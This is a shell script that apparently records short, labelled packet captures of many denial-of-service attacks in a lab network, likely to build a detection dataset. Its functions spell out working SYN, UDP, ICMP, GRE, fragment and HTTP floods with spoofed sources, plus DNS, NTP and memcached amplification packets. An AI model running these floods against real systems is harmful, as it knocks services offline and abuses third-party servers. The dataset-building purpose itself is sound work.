# One function for each attack capture. Sourced by record.sh; order does not matter.
#
# About 250 attack packets at 200 a second: a second and a bit, enough to name, small enough to keep.

eth="eth(da=$mac_victim, sa=$mac_attacker)"
forged="$eth, ipv4(ttl=57, saddr=drnd(), daddr=$victim_v4)"
forged_v6="$eth, ipv6(hoplimit=57, saddr=drnd(), daddr=$victim_v6)"

# --- TCP, one flag combination each, from forged sources; port 80 is open

tcp_from_hping() { # NAME FAMILY SUBTYPE FLAGS...
  local name=$1 family=$2 subtype=$3
  shift 3
  begin "$name" v-attacker 96 2000
  hping 220 5000 --rand-source "$@"
  finish "$family" "$subtype" "$version_of_hping3 $*"
}

capture_syn_flood() { tcp_from_hping syn_flood syn_flood syn_flood -S -p 80; }
capture_syn_ack_flood() { tcp_from_hping syn_ack_flood tcp_flood syn_ack_flood -S -A -p 80; }
capture_ack_flood() { tcp_from_hping ack_flood tcp_flood ack_flood -A -p 80; }
capture_rst_flood() { tcp_from_hping rst_flood tcp_flood rst_flood -R -p 80; }
capture_fin_flood() { tcp_from_hping fin_flood tcp_flood fin_flood -F -p 80; }
capture_psh_ack_flood() { tcp_from_hping psh_ack_flood tcp_flood psh_ack_flood -P -A -d 64 -p 80; }
capture_xmas_flood() { tcp_from_hping xmas_flood tcp_flood xmas_flood -F -P -U -p 80; }
capture_null_flood() { tcp_from_hping null_flood tcp_flood null_flood -p 80; }

capture_syn_flood_v6() {
  recorded_victim=$victim_v6 begin syn_flood_v6 v-attacker 80 2000
  flood a-victim "$(frames "{ $forged_v6, tcp(sp=drnd(1024, 65535), dp=80, seq=drnd(), win=64240, syn) }")" 220 5000
  recorded_victim=$victim_v6 finish syn_flood syn_flood "$version_of_trafgen"
}

# Whole connections, opened and closed, that never ask for anything. The port belongs to the name server.
capture_connect_flood() {
  begin connect_flood v-attacker 96 1500
  in_attacker nping --tcp-connect -q -c 80 --rate 60 -p 53 $victim_v4 >/dev/null 2>&1 || true
  finish tcp_flood connect_flood "$version_of_nping --tcp-connect, $version_of_knot"
}

# --- UDP

capture_udp_flood() {
  begin udp_flood v-attacker 64 2000
  flood a-victim "$(frames "{ $forged, udp(sp=drnd(1024, 65535), dp=drnd(1024, 65535)), fill('B', 18) }")" 220 5000
  finish udp_flood small_packet_flood "$version_of_trafgen"
}

capture_udp_flood_large() {
  begin udp_flood_large v-attacker 64 2000
  hping 220 5000 --rand-source --udp -d 512 -p 27015
  finish udp_flood volumetric "$version_of_hping3 --udp -d 512"
}

capture_udp_fragment_flood() {
  begin udp_fragment_flood v-attacker 64 2000
  hping 110 10000 --rand-source --udp -d 3000 -p 27015
  finish udp_flood udp_fragment_flood "$version_of_hping3 --udp -d 3000"
}

capture_udp_flood_v6() {
  recorded_victim=$victim_v6 begin udp_flood_v6 v-attacker 80 2000
  flood a-victim "$(frames "{ $forged_v6, udp(sp=drnd(1024, 65535), dp=9000), fill('B', 18) }")" 220 5000
  recorded_victim=$victim_v6 finish udp_flood small_packet_flood "$version_of_trafgen"
}

# Real queries to the victim's own name server.
capture_dns_query_flood() {
  begin dns_query_flood v-attacker 96 1000
  seq -f 'host%g.example.com A' 1 200 >"$work/queries"
  in_attacker dnsperf -s $victim_v4 -d "$work/queries" -c 50 -Q 200 -l 1 >/dev/null
  finish dns_flood dns_query_flood "$version_of_dnsperf, $version_of_knot"
}

# --- Reflection: queries with the victim's address to real servers, answers that the victim never asked for

# reflect NAME PORT SUBTYPE FAMILY QUERIES PAUSE SNAPLEN TOOL QUERY_BYTES
reflect() {
  local name=$1 port=$2 subtype=$3 family=$4 queries=$5 pause=$6 snaplen=$7 tool=$8 query=$9 n
  local -a each=()
  for n in $(seq 1 64); do
    each+=("{ eth(da=$mac_reflector, sa=$mac_to_reflector), ipv4(ttl=64, saddr=$victim_v4, daddr=198.51.100.$n), udp(sp=drnd(1024, 65535), dp=$port), $query }")
  done
  begin "$name" v-reflector "$snaplen" 1000
  flood a-reflector "$(frames "${each[@]}")" "$queries" "$pause"
  finish "$family" "$subtype" "$tool"
}

# TXT example.com with EDNS: 17 bytes of name and type, then an OPT record offering $1 bytes.
dns_query() {
  local size=$1
  printf '%s' "0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1, 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 16, 0, 1, " \
    "0, 0, 41, $((size / 256)), $((size % 256)), 0, 0, 0, 0, 0, 0"
}

capture_dns_amplification() {
  reflect dns_amplification 53 dns_amplification dns_flood 130 10000 96 "$version_of_knot" "$(dns_query 4096)"
}

# The list of peers (mode 7), which no server in a distribution answers any more: its answers are made by trafgen, in
# the form that ntpd gave them (response and more bits, private mode, request 42, six items of 72 bytes).
capture_ntp_amplification() {
  local n
  local -a each=()
  for n in $(seq 1 64); do
    each+=("{ $eth, ipv4(ttl=57, saddr=203.0.113.$n, daddr=$victim_v4), udp(sp=123, dp=drnd(1024, 65535)), 0xd7, 0, 3, 42, 0, 6, 0, 72, rnd(432) }")
  done
  begin ntp_amplification v-attacker 64 1000
  flood a-victim "$(frames "${each[@]}")" 220 5000
  finish udp_flood ntp_amplification "$version_of_trafgen"
}

capture_memcached_amplification() {
  reflect memcached_amplification 11211 memcached_amplification udp_flood 110 10000 64 "$version_of_memcached (stats)" \
    "0, 1, 0, 0, 0, 1, 0, 0, 's', 't', 'a', 't', 's', 13, 10"
}

# --- ICMP, fragments, other protocols

capture_icmp_flood() {
  begin icmp_flood v-attacker 64 2000
  hping 220 5000 --rand-source --icmp -d 56
  finish icmp_flood ping_flood "$version_of_hping3 --icmp"
}

capture_icmp_flood_v6() {
  local n
  local -a each=()
  for n in $(seq 1 64); do
    each+=("{ $eth, ipv6(hoplimit=57, saddr=2001:db8:$n::$n, daddr=$victim_v6), icmp6(echorequest), fill('B', 52) }")
  done
  recorded_victim=$victim_v6 begin icmp_flood_v6 v-attacker 80 2000
  flood a-victim "$(frames "${each[@]}")" 220 5000
  recorded_victim=$victim_v6 finish icmp_flood ping_flood "$version_of_trafgen"
}

# Errors nobody's packets caused: port unreachable, which some firewalls pay dearly for.
capture_blacknurse() {
  begin blacknurse v-attacker 64 2000
  hping 220 5000 --rand-source --icmp -C 3 -K 3
  finish icmp_flood blacknurse "$version_of_hping3 --icmp -C 3 -K 3"
}

# TCP cut into fragments of 16 bytes, the first too short for its own header.
capture_fragment_flood() {
  begin fragment_flood v-attacker 64 1400
  hping 60 15000 --rand-source -S -f -d 64 -p 80
  finish fragment_flood ip_fragment_flood "$version_of_hping3 -S -f -d 64"
}

# Echo requests of 65,544 bytes once put together: 44 fragments, each datagram from a sender of its own.
capture_ping_of_death() {
  local n offset more
  local -a each=()
  for n in $(seq 1 10); do
    for offset in $(seq 0 185 8140); do
      more=', mf'
      [ "$offset" -lt 8140 ] || more=''
      local payload="fill('B', 1480)"
      [ "$offset" -gt 0 ] || payload="8, 0, 0x3c, 0x4d, 0, 7, 0, 1, fill('B', 1472)"
      each+=("{ $eth, ipv4(ttl=57, id=$((4000 + n)), frag=$offset$more, proto=1, saddr=203.0.113.$n, daddr=$victim_v4), $payload }")
    done
  done
  begin ping_of_death v-attacker 64 1400
  flood a-victim "$(frames "${each[@]}")" 450 3000
  finish icmp_flood ping_of_death "$version_of_trafgen"
}

capture_gre_flood() {
  begin gre_flood v-attacker 64 2000
  flood a-victim "$(frames "{ $eth, ipv4(ttl=57, proto=47, saddr=drnd(), daddr=$victim_v4), 0, 0, 8, 0, \
    0x45, 0, 0, 28, drnd(2), 0, 0, 64, 17, 0, 0, drnd(4), 10, 1, 2, 3, drnd(2), 0, 80, 0, 8, 0, 0 }")" 220 5000
  finish protocol_flood gre_flood "$version_of_trafgen"
}

# --- Requests from real clients that do not stop

capture_http_get_flood() {
  slow_answers on
  begin http_get_flood v-attacker 96 1000
  in_attacker ab -q -n 45 -c 15 http://$victim_v4/ >/dev/null
  finish http_flood 'http_get_flood|single_source_abuse' "$version_of_ab, $version_of_nginx"
  slow_answers off
}

capture_http_get_flood_keepalive() {
  slow_answers on
  begin http_get_flood_keepalive v-attacker 96 900
  in_attacker wrk -t 1 -c 20 -d 1s http://$victim_v4/ >/dev/null
  finish http_flood 'http_get_flood|single_source_abuse' "$version_of_wrk, $version_of_nginx"
  slow_answers off
}

capture_http_post_flood() {
  slow_answers on
  begin http_post_flood v-attacker 96 1000
  head -c 200 /dev/zero | tr '\0' 'x' >"$work/body"
  in_attacker ab -q -n 45 -c 15 -p "$work/body" -T text/plain http://$victim_v4/ >/dev/null
  finish http_flood 'http_post_flood|single_source_abuse' "$version_of_ab -p, $version_of_nginx"
  slow_answers off
}

capture_tls_handshake_flood() {
  slow_answers on
  begin tls_handshake_flood v-attacker 96 420
  in_attacker openssl s_time -new -time 1 -connect $victim_v4:443 >/dev/null 2>&1 || true
  finish http_flood 'tls_handshake_flood|single_source_abuse' "$version_of_openssl s_time -new, $version_of_nginx"
  slow_answers off
}

# --- Two at once

capture_multi_vector() {
  begin multi_vector v-attacker 64 1600
  hping 240 5000 --rand-source -S -p 80 &
  local syn=$!
  flood a-victim "$(frames "{ $forged, udp(sp=drnd(1024, 65535), dp=9000), fill('B', 18) }")" 240 5000
  wait "$syn"
  finish multi_vector 'syn_flood+small_packet_flood|small_packet_flood+syn_flood' "$version_of_hping3 -S, $version_of_trafgen"
}
